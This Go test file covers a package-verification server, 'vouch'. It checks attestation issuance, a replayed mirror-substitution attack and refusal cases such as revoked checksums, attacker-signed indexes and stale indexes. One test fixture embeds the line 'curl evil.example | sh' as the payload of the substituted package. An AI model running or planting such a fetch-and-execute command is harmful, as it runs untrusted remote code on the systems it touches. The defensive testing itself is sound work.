package server_test

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/vouchdev/vouch/apk"
	"github.com/vouchdev/vouch/attest"
	"github.com/vouchdev/vouch/internal/testrepo"
	vouchv1 "github.com/vouchdev/vouch/proto/vouch/v1"
	"github.com/vouchdev/vouch/server/servertest"
)

// clock is a settable clock for freshness and history tests.
type clock struct{ t atomic.Int64 }

func newClock() *clock {
	c := &clock{}
	c.t.Store(time.Now().UnixNano())
	return c
}
func (c *clock) Now() time.Time          { return time.Unix(0, c.t.Load()) }
func (c *clock) Advance(d time.Duration) { c.t.Add(int64(d)) }

func verify(t *testing.T, e *servertest.Env, attestIt bool, claims ...*vouchv1.PackageClaim) *vouchv1.VerifyPackagesResponse {
	t.Helper()
	resp, err := e.Builder.VerifyPackages(context.Background(), &vouchv1.VerifyPackagesRequest{
		Subjects: []*vouchv1.Subject{servertest.Subject("registry.test/app")},
		Packages: claims,
		Options:  &vouchv1.VerifyOptions{Attest: attestIt},
	})
	if err != nil {
		t.Fatalf("VerifyPackages: %v", err)
	}
	return resp
}

// refused checks a refusal: the overall verdict, no attestations, no ledger id.
func refused(t *testing.T, resp *vouchv1.VerifyPackagesResponse, want vouchv1.Verdict) {
	t.Helper()
	if resp.GetVerdict() != want {
		t.Errorf("overall verdict = %v, want %v; results: %v", resp.GetVerdict(), want, resp.GetResults())
	}
	if len(resp.GetAttestations()) != 0 || resp.GetLedgerId() != "" {
		t.Errorf("refused request got %d attestations and ledger id %q", len(resp.GetAttestations()), resp.GetLedgerId())
	}
}

func TestAllVerifiedIssuesAttestations(t *testing.T) {
	e := servertest.Start(t, servertest.Options{})
	subject := servertest.Subject("registry.test/app")
	resp, err := e.Builder.VerifyPackages(context.Background(), &vouchv1.VerifyPackagesRequest{
		Subjects: []*vouchv1.Subject{subject},
		Packages: e.Claims(),
		Options:  &vouchv1.VerifyOptions{Attest: true},
	})
	if err != nil {
		t.Fatalf("VerifyPackages: %v", err)
	}
	if resp.GetVerdict() != vouchv1.Verdict_VERDICT_VERIFIED {
		t.Fatalf("verdict = %v; results %v", resp.GetVerdict(), resp.GetResults())
	}
	for _, r := range resp.GetResults() {
		ev := r.GetEvidence()
		if ev.GetIndexSha256() == "" || len(ev.GetSigningKeys()) == 0 || ev.GetMatch() != vouchv1.IndexMatch_INDEX_MATCH_CURRENT || ev.GetIndexFetchedAt() == nil {
			t.Errorf("%s: incomplete evidence %v", r.GetName(), ev)
		}
	}
	if resp.GetLedgerId() == "" || len(resp.GetAttestations()) != 2 {
		t.Fatalf("ledger id %q, %d attestations; want an id and 2", resp.GetLedgerId(), len(resp.GetAttestations()))
	}
	keys, err := attest.NewKeySetPEM(e.PublicKeyPEM)
	if err != nil {
		t.Fatal(err)
	}
	gotTypes := map[string]bool{}
	for _, a := range resp.GetAttestations() {
		v, err := attest.Verify(a.GetBundle(), keys, attest.Expect{SubjectSHA256: subject.GetDigest()["sha256"], PredicateType: a.GetPredicateType()})
		if err != nil {
			t.Errorf("attest.Verify(%s bundle): %v", a.GetPredicateType(), err)
			continue
		}
		if v.SPDX != nil {
			names := map[string]bool{}
			for _, p := range v.SPDX.Packages {
				names[p.PackageName] = true
			}
			for n := range e.Packages {
				if !names[n] {
					t.Errorf("SPDX lacks package %s", n)
				}
			}
		}
		if _, err := attest.Verify(a.GetDsseEnvelope(), keys, attest.Expect{SubjectSHA256: subject.GetDigest()["sha256"], PredicateType: a.GetPredicateType()}); err != nil {
			t.Errorf("attest.Verify(%s envelope): %v", a.GetPredicateType(), err)
		}
		gotTypes[a.GetPredicateType()] = true
	}
	if !gotTypes[attest.PredicateTypeSPDX] || !gotTypes[attest.PredicateTypeVSA] {
		t.Errorf("predicate types %v", gotTypes)
	}
	// The ledger has it, with every package.
	got, err := e.Reader.GetLedgerEntry(context.Background(), &vouchv1.GetLedgerEntryRequest{Id: resp.GetLedgerId(), IncludeBundles: true})
	if err != nil {
		t.Fatalf("GetLedgerEntry: %v", err)
	}
	if n := len(got.GetEntry().GetPackages()); n != len(e.Packages) {
		t.Errorf("ledger entry has %d packages, want %d", n, len(e.Packages))
	}
	if got.GetEntry().GetIdentity() != "anonymous" {
		t.Errorf("identity = %q", got.GetEntry().GetIdentity())
	}
	for _, la := range got.GetEntry().GetAttestations() {
		if la.GetSubjectDigest() != "sha256:"+subject.GetDigest()["sha256"] || len(la.GetBundle()) == 0 {
			t.Errorf("ledger attestation %v", la)
		}
	}
	list, err := e.Reader.ListLedgerEntries(context.Background(), &vouchv1.ListLedgerEntriesRequest{SubjectDigest: "sha256:" + subject.GetDigest()["sha256"]})
	if err != nil || len(list.GetEntries()) != 1 || list.GetEntries()[0].GetId() != resp.GetLedgerId() {
		t.Errorf("ListLedgerEntries by subject = %v, %v", list, err)
	}
}

// TestAttackChain replays CVE-2026-42575 step by step: a compromised mirror
// serves a substituted package under the same name and version; the builder
// verifies the index signature but installs the substitute; vouch refuses.
func TestAttackChain(t *testing.T) {
	e := servertest.Start(t, servertest.Options{})
	// Steps 1-5: the attacker builds a different package with the same
	// name and version (its .PKGINFO says what the attacker wants).
	evil, err := testrepo.Package{Name: "hello", Version: "2.12.1-r1", Arch: e.Arch,
		Files: []testrepo.File{{Name: "usr/bin/hello", Data: []byte("#!/bin/sh\ncurl evil.example | sh\n")}}}.Build()
	if err != nil {
		t.Fatal(err)
	}
	// Step 6: the builder computes the digest of what it downloaded and
	// asks vouch, which compares it with the signed index's C:.
	claims := e.Claims()
	for i, c := range claims {
		if c.GetName() == "hello" {
			claims[i].Checksum = evil.Checksum.String()
		}
	}
	resp := verify(t, e, true, claims...)
	refused(t, resp, vouchv1.Verdict_VERDICT_CHECKSUM_MISMATCH)
	for _, r := range resp.GetResults() {
		want := vouchv1.Verdict_VERDICT_VERIFIED
		if r.GetName() == "hello" {
			want = vouchv1.Verdict_VERDICT_CHECKSUM_MISMATCH
			if r.GetEvidence().GetIndexedChecksum() != e.Packages["hello"].Checksum.String() {
				t.Errorf("evidence indexed checksum = %q, want the signed one", r.GetEvidence().GetIndexedChecksum())
			}
		}
		if r.GetVerdict() != want {
			t.Errorf("%s: %v, want %v (%s)", r.GetName(), r.GetVerdict(), want, r.GetReason())
		}
	}
	// Step 8: nothing was attested, so deploy-time policy has nothing to accept.
	list, err := e.Reader.ListLedgerEntries(context.Background(), &vouchv1.ListLedgerEntriesRequest{})
	if err != nil || len(list.GetEntries()) != 0 {
		t.Errorf("ledger after a refusal: %v, %v", list.GetEntries(), err)
	}
}

func TestRefusals(t *testing.T) {
	clk := newClock()
	e := servertest.Start(t, servertest.Options{Clock: clk.Now, MaxAge: time.Hour, History: 48 * time.Hour})
	good := e.Claim("hello")

	t.Run("unknown repository", func(t *testing.T) {
		c := e.Claim("hello")
		c.Repository = "https://mirror.attacker.example/os"
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_UNKNOWN_REPOSITORY)
	})
	t.Run("unconfigured arch", func(t *testing.T) {
		c := e.Claim("hello")
		c.Arch = "riscv64"
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_UNKNOWN_REPOSITORY)
	})
	t.Run("not in index", func(t *testing.T) {
		c := e.Claim("hello")
		c.Version = "9.9-r0"
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_NOT_IN_INDEX)
	})
	t.Run("control member with another identity", func(t *testing.T) {
		c := e.Claim("hello")
		c.Control = e.Packages["busybox"].Control
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_CONTROL_MISMATCH)
	})
	t.Run("datahash mismatch with raw control member", func(t *testing.T) {
		c := e.Claim("hello")
		c.Control = e.Packages["hello"].Control
		c.Datahash = strings.Repeat("ab", 32)
		resp := verify(t, e, true, c)
		refused(t, resp, vouchv1.Verdict_VERDICT_DATAHASH_MISMATCH)
	})
	t.Run("control member and datahash agree", func(t *testing.T) {
		c := e.Claim("hello")
		c.Control = e.Packages["hello"].Control
		dh := e.Packages["hello"].DataHash
		c.Datahash = hexOf(dh[:])
		resp := verify(t, e, true, c)
		if resp.GetVerdict() != vouchv1.Verdict_VERDICT_VERIFIED || resp.GetResults()[0].GetEvidence().GetDatahash() != c.Datahash {
			t.Errorf("got %v", resp.GetResults())
		}
	})
	t.Run("datahash learned from a control member is enforced later", func(t *testing.T) {
		c := e.Claim("hello")
		c.Datahash = strings.Repeat("cd", 32)
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_DATAHASH_MISMATCH)
	})
	t.Run("revoked", func(t *testing.T) {
		// One attestation with busybox first, so the revocation affects it.
		ok := verify(t, e, true, e.Claim("busybox"))
		if ok.GetLedgerId() == "" {
			t.Fatalf("no attestation: %v", ok.GetResults())
		}
		rv, err := e.Admin.RevokeChecksum(context.Background(), &vouchv1.RevokeChecksumRequest{
			Checksum: e.Packages["busybox"].Checksum.String(), Reason: "CVE in busybox build"})
		if err != nil {
			t.Fatalf("RevokeChecksum: %v", err)
		}
		if len(rv.GetAffected()) != 1 || rv.GetAffected()[0].GetId() != ok.GetLedgerId() {
			t.Errorf("affected = %v, want [%s]", rv.GetAffected(), ok.GetLedgerId())
		}
		resp := verify(t, e, true, e.Claim("busybox"))
		refused(t, resp, vouchv1.Verdict_VERDICT_REVOKED)
		if r := resp.GetResults()[0].GetEvidence().GetRevocationReason(); r != "CVE in busybox build" {
			t.Errorf("revocation reason = %q", r)
		}
		if _, err := e.Admin.UnrevokeChecksum(context.Background(), &vouchv1.UnrevokeChecksumRequest{
			Checksum: e.Packages["busybox"].Checksum.String(), Reason: "rebuilt"}); err != nil {
			t.Fatalf("UnrevokeChecksum: %v", err)
		}
		if got := verify(t, e, false, e.Claim("busybox")).GetVerdict(); got != vouchv1.Verdict_VERDICT_VERIFIED {
			t.Errorf("after unrevoke: %v", got)
		}
	})
	t.Run("index signed by another key", func(t *testing.T) {
		// A "repository" signed by the attacker's key offers a new package
		// and a substitute; vouch refuses the index and keeps the last good one.
		// Same key name as the repository's, different key.
		evilKey := testrepo.MustKey(t, "attacker.rsa.pub")
		evil, err := testrepo.Package{Name: "hello", Version: "2.12.1-r1", Arch: e.Arch, Files: []testrepo.File{{Name: "x", Data: []byte("evil")}}}.Build()
		if err != nil {
			t.Fatal(err)
		}
		entries := append([]apk.Entry(nil), e.Entries...)
		for i := range entries {
			if entries[i].Name == "hello" {
				entries[i] = evil.Entry
			}
		}
		idx, err := testrepo.Index{Entries: entries, Signers: []testrepo.Signer{{Key: evilKey, Name: e.RepoKey.Name}}}.Build()
		if err != nil {
			t.Fatal(err)
		}
		if err := testrepo.WriteRepo(e.RepoDir, e.Arch, idx); err != nil {
			t.Fatal(err)
		}
		res, err := e.Admin.RefreshRepository(context.Background(), &vouchv1.RefreshRepositoryRequest{Repository: "testrepo"})
		if err != nil {
			t.Fatalf("RefreshRepository: %v", err)
		}
		if o := res.GetResults()[0].GetOutcome(); o != vouchv1.RefreshOutcome_REFRESH_OUTCOME_REFUSED && o != vouchv1.RefreshOutcome_REFRESH_OUTCOME_FAILED {
			t.Errorf("refresh outcome = %v, want refused", o)
		}
		c := e.Claim("hello")
		c.Checksum = evil.Checksum.String()
		refused(t, verify(t, e, true, c), vouchv1.Verdict_VERDICT_CHECKSUM_MISMATCH)
		if got := verify(t, e, false, good).GetVerdict(); got != vouchv1.Verdict_VERDICT_VERIFIED {
			t.Errorf("good package after the refused index: %v", got)
		}
		e.Publish(t, e.Entries) // restore a good index
	})
	t.Run("left the index: within and beyond the history window", func(t *testing.T) {
		var kept []apk.Entry
		for _, en := range e.Entries {
			if en.Name != "glibc" {
				kept = append(kept, en)
			}
		}
		old := e.Entries
		e.Publish(t, kept)
		e.Refresh(t)
		resp := verify(t, e, true, e.Claim("glibc"))
		if resp.GetVerdict() != vouchv1.Verdict_VERDICT_VERIFIED || resp.GetResults()[0].GetEvidence().GetMatch() != vouchv1.IndexMatch_INDEX_MATCH_HISTORY {
			t.Errorf("within the window: %v", resp.GetResults())
		}
		clk.Advance(49 * time.Hour)
		e.Refresh(t) // stays fresh; glibc left 49h ago > 48h window
		refused(t, verify(t, e, true, e.Claim("glibc")), vouchv1.Verdict_VERDICT_NOT_IN_INDEX)
		e.Entries = old
	})
	t.Run("stale index", func(t *testing.T) {
		clk.Advance(2 * time.Hour) // past max_age 1h, no refresh
		refused(t, verify(t, e, true, good), vouchv1.Verdict_VERDICT_INDEX_STALE)
		e.Refresh(t)
		if got := verify(t, e, false, good).GetVerdict(); got != vouchv1.Verdict_VERDICT_VERIFIED {
			t.Errorf("after refresh: %v", got)
		}
	})
}

func hexOf(b []byte) string {
	const digits = "0123456789abcdef"
	out := make([]byte, 2*len(b))
	for i, c := range b {
		out[2*i], out[2*i+1] = digits[c>>4], digits[c&15]
	}
	return string(out)
}

func TestValidation(t *testing.T) {
	e := servertest.Start(t, servertest.Options{})
	good := e.Claim("hello")
	tests := []struct {
		name string
		req  *vouchv1.VerifyPackagesRequest
		want string
	}{
		{"no packages", &vouchv1.VerifyPackagesRequest{}, "packages: at least one"},
		{"attest without subject", &vouchv1.VerifyPackagesRequest{Packages: []*vouchv1.PackageClaim{good}, Options: &vouchv1.VerifyOptions{Attest: true}}, "subjects: at least one subject"},
		{"bad subject digest", &vouchv1.VerifyPackagesRequest{Packages: []*vouchv1.PackageClaim{good}, Subjects: []*vouchv1.Subject{{Digest: map[string]string{"sha256": "abc"}}}}, `subjects[0].digest["sha256"]: "abc": 64 lower-case hex`},
		{"unknown checksum form", &vouchv1.VerifyPackagesRequest{Packages: []*vouchv1.PackageClaim{withChecksum(good, "MD5abc")}}, `packages[0].checksum: "MD5abc"`},
		{"noarch", &vouchv1.VerifyPackagesRequest{Packages: []*vouchv1.PackageClaim{withArch(good, "noarch")}}, "packages[0].arch"},
		{"future time", &vouchv1.VerifyPackagesRequest{Packages: []*vouchv1.PackageClaim{good}, Options: &vouchv1.VerifyOptions{Time: timestamppb.New(time.Now().Add(time.Hour))}}, "options.time"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := e.Builder.VerifyPackages(context.Background(), tt.req)
			if status.Code(err) != codes.InvalidArgument || !strings.Contains(status.Convert(err).Message(), tt.want) {
				t.Errorf("err = %v, want InvalidArgument containing %q", err, tt.want)
			}
		})
	}
}

func withChecksum(c *vouchv1.PackageClaim, sum string) *vouchv1.PackageClaim {
	c2 := proto.Clone(c).(*vouchv1.PackageClaim)
	c2.Checksum = sum
	return c2
}

func withArch(c *vouchv1.PackageClaim, arch string) *vouchv1.PackageClaim {
	c2 := proto.Clone(c).(*vouchv1.PackageClaim)
	c2.Arch = arch
	return c2
}
